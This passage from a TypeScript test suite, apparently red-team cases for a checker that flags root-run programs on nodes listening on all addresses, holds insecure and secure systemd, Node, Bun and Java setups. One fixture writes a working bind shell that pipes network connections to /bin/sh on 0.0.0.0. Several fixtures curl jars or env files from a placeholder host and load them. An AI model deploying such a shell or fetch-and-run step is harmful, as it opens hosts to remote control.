            "mkdir -p /opt/ops && curl -fsSL -o /opt/ops/.env https://artifacts.example.com/ops.env",
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
        ]),
    ),
    // JAVA-CLASSPATH-ENV: a CLASSPATH value the pack cannot compute (read from a file at boot).
    dev(
        'export CLASSPATH="$(cat /opt/ops/cp)"; javac Main.java && java Main (Srv from the class path)',
        javaApp(
            "dev-nsec43-rt77n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none -cp /opt/lib/dep.jar:. Main.java && nohup java Main >/var/log/ops.log 2>&1 &",
            [
                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
                ...file("/opt/ops/cp", ["/opt/lib/dep.jar:."]),
                'export CLASSPATH="$(cat /opt/ops/cp)"',
            ],
        ),
    ),
    // UNIT-SPECIFIER-INSTANCE: two instances, one of them 0.0.0.0 (every instance's value counts).
    dev(
        "template ops@.service Environment=HOST=%i; enable ops@127.0.0.1 and ops@0.0.0.0",
        script("dev-nsec44-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%i",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl daemon-reload && systemctl enable --now ops@127.0.0.1.service ops@0.0.0.0.service",
        ]),
    ),
    // UNIT-SPECIFIER-INSTANCE: an instance the pack cannot know (a variable).
    dev(
        'template ops@.service Environment=HOST=%i; systemctl enable --now "ops@$BIND"',
        script("dev-nsec45-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%i",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            'BIND=$(cat /opt/ops/bind); systemctl daemon-reload && systemctl enable --now "ops@$BIND"',
        ]),
    ),
    // UNIT-SPECIFIER-INSTANCE: systemd.unit(5) DefaultInstance=: `systemctl enable ops@.service` enables ops@0.0.0.0.
    dev(
        "template ops@.service Environment=HOST=%i DefaultInstance=0.0.0.0; systemctl enable --now ops@.service",
        script("dev-nsec46-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%i",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
                "[Install]",
                "WantedBy=multi-user.target",
                "DefaultInstance=0.0.0.0",
            ]),
            "systemctl daemon-reload && systemctl enable --now ops@.service",
        ]),
    ),
];

const secure: NodeCase[] = [
    // systemd.exec(5) EnvironmentFile= continuation / env-file.c comment escape: HOST=0.0.0.0 is part of a comment.
    dev(
        "EnvironmentFile: HOST=127.0.0.1, '# old \\' then HOST=0.0.0.0 (a comment in systemd)",
        script("dev-nsec1s-rt77n", [
            ...file("/opt/ops/env", ["HOST=127.0.0.1", "# old \\", "HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["EnvironmentFile=/opt/ops/env"]),
        ]),
    ),
    // systemd.exec(5) EnvironmentFile=: "A line ending with a backslash will be continued": NOTE swallows HOST=0.0.0.0.
    dev(
        "EnvironmentFile: HOST=127.0.0.1, NOTE=\\ continued over HOST=0.0.0.0",
        script("dev-nsec2s-rt77n", [
            ...file("/opt/ops/env", ["HOST=127.0.0.1", "NOTE=\\", "HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["EnvironmentFile=/opt/ops/env"]),
        ]),
    ),
    // systemd.syntax(7) quoting: quotes inside a word are removed (HOST="127.0.0.1" is HOST=127.0.0.1).
    dev(
        'unit Environment=HOST="127.0.0.1"; HOST || 127.0.0.1',
        script("dev-nsec3s-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(['Environment=HOST="127.0.0.1"']),
        ]),
    ),
    // systemd.exec(5) UnsetEnvironment=: "Explicitly unset environment variable assignments", applied last.
    dev(
        "unit Environment=HOST=0.0.0.0 UnsetEnvironment=HOST; HOST || 127.0.0.1",
        script("dev-nsec4s-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["Environment=HOST=0.0.0.0", "UnsetEnvironment=HOST"]),
        ]),
    ),
    // Drop-in resetting Environment= (systemd.exec(5): "If the empty string is assigned to this option, the list of
    // environment variables is reset").
    dev(
        "unit Environment=HOST=0.0.0.0; drop-in Environment= (reset) Environment=HOST=127.0.0.1",
        script("dev-nsec5s-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["Environment=HOST=0.0.0.0"]),
            ...file("/etc/systemd/system/ops.service.d/10-lo.conf", [
                "[Service]",
                "Environment=",
                "Environment=HOST=127.0.0.1",
            ]),
            "systemctl daemon-reload && systemctl restart ops",
        ]),
    ),
    // A property spread before the literal host (ECMAScript: later definitions win): host is 127.0.0.1.
    dev(
        "listen({ ...base, host: 127.0.0.1 }) with base.host 0.0.0.0 (the literal wins)",
        script("dev-nsec6s-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer([
                    'const base = { host: "0.0.0.0", port: 8081 };',
                    'server.listen({ ...base, host: "127.0.0.1" });',
                ]),
            ),
            ...nodeUnit(),
        ]),
    ),
    // JDK javac/java: CLASSPATH holds only the sources' directory.
    dev(
        "export CLASSPATH=/opt/ops; javac Main.java && java Main 127.0.0.1",
        javaApp(
            "dev-nsec7s-rt77n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            ["export CLASSPATH=/opt/ops"],
        ),
    ),
    // A systemd unit running java on javac's output with loopback and no JVM option variables.
    dev(
        "javac in user data; unit ExecStart=/usr/bin/java -cp /opt/ops Main 127.0.0.1",
        script("dev-nsec8s-rt77n", [
            ...file("/opt/ops/Main.java", JAVA_OK_SERVER),
            "cd /opt/ops && javac Main.java",
            ...systemdUnit("ops", ["ExecStart=/usr/bin/java -cp /opt/ops Main 127.0.0.1"]),
        ]),
    ),
    // systemd.unit(5) %i: ops@127.0.0.1.service gives HOST=127.0.0.1.
    // Was a MISS (fixed in round 77): UNIT-SPECIFIER-INSTANCE (secure). systemd.unit(5) "Specifiers" (%i: the instance name, "the part of the
    // instantiated unit name between the "@" character and the type suffix") are expanded in Environment=
    // (systemd.exec(5): "specifier expansion is possible"; RHEL "Important unit specifiers"): ops@127.0.0.1.service gets
    // HOST=127.0.0.1, a loopback server. The pack refuses "createReadStream serving files on every address": "%i" is
    // taken literally (systemd.ts unitEnvironment/unitExecEnvironment expand no specifiers and do not tie a template to
    // the instances enabled). Fix: for a template unit, expand %i/%I with each instance user data enables/starts
    // (systemctl enable/start NAME@INSTANCE), every value judged; any other specifier or an unknown instance stays
    // unknown (fail closed: dev-nsec12-rt77n must stay refused).
    dev(
        "template ops@.service Environment=HOST=%i; systemctl enable --now ops@127.0.0.1",
        script("dev-nsec9s-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%i",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl daemon-reload && systemctl enable --now ops@127.0.0.1.service",
        ]),
    ),
    // ---- round 77 fixes: secure neighbours (fix77-nsec) ----
    // JS-OBJECT-LAST-WINS: the last definition is loopback (ECMAScript PropertyDefinitionEvaluation).
    dev(
        'listen({ host: "0.0.0.0", port: 8081, host: "127.0.0.1" }) (the last wins)',
        script("dev-nsec10s-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer(['server.listen({ host: "0.0.0.0", port: 8081, host: "127.0.0.1" });']),
            ),
            ...nodeUnit(),
        ]),
    ),
    // NODE-MODULES-WRITTEN: a package user data wrote in full is read as the program's own code (here no server).
    dev(
        "/opt/ops/node_modules/express/index.js written (a stub, no socket); a.js requires express, loopback",
        script("dev-nsec11s-rt77n", [
            ...file("/opt/ops/node_modules/express/index.js", ["module.exports = () => ({ listen() {} });"]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // NODE-MODULES-WRITTEN: a package written beside the chain (/opt/other/node_modules) is not where node looks.
    dev(
        "/opt/other/node_modules/express/index.js written (0.0.0.0 shell); /opt/ops/a.js requires express, loopback",
        script("dev-nsec12s-rt77n", [
            ...file("/opt/other/node_modules/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // BUN-DOTENV: --no-env-file (Bun docs "Disabling automatic .env loading"): the .env is not read.
    dev(
        "unit WorkingDirectory=/opt/ops runs bun --no-env-file a.js; /opt/ops/.env HOST=0.0.0.0",
        script("dev-nsec13s-rt77n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "WorkingDirectory=/opt/ops",
                "ExecStart=/usr/local/bin/bun --no-env-file /opt/ops/a.js",
            ]),
        ]),
    ),
    // BUN-DOTENV: a .env giving loopback.
    dev(
        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env HOST=127.0.0.1",
        script("dev-nsec14s-rt77n", [
            ...file("/opt/ops/.env", ["HOST=127.0.0.1"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
        ]),
    ),
    // JAVA-CLASSPATH-ENV: -cp overrides CLASSPATH (JDK "Setting the Class Path"), for javac (-proc:none: no annotation
    // processor from the class path) and java: the downloaded jar is not loaded.
    dev(
        "export CLASSPATH=/opt/lib/dep.jar:.; javac -proc:none -cp . Main.java && java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec15s-rt77n",
            JAVA_OK_SERVER,
            "javac -proc:none -cp . Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            [
                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
                "export CLASSPATH=/opt/lib/dep.jar:.",
            ],
        ),
    ),
    // JAVA-CLASSPATH-ENV: the unit's CLASSPATH is javac's output only.
    dev(
        "javac in user data; unit Environment=CLASSPATH=/opt/ops ExecStart=/usr/bin/java Main 127.0.0.1",
        script("dev-nsec16s-rt77n", [
            ...file("/opt/ops/Main.java", JAVA_OK_SERVER),
            "cd /opt/ops && javac Main.java",
            ...systemdUnit("ops", ["Environment=CLASSPATH=/opt/ops", "ExecStart=/usr/bin/java Main 127.0.0.1"]),
        ]),
    ),
    // UNIT-SPECIFIER-INSTANCE: %I (the unescaped instance) of ops@127.0.0.1, started by `systemctl start`.
    dev(
        "template ops@.service Environment=HOST=%I; systemctl start ops@127.0.0.1",
        script("dev-nsec17s-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%I",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
            ]),
            "systemctl daemon-reload && systemctl start ops@127.0.0.1",
        ]),
    ),
];

describeNodeCases("red team 77 nsec: listeners of programs root runs on nodes", insecure, secure);
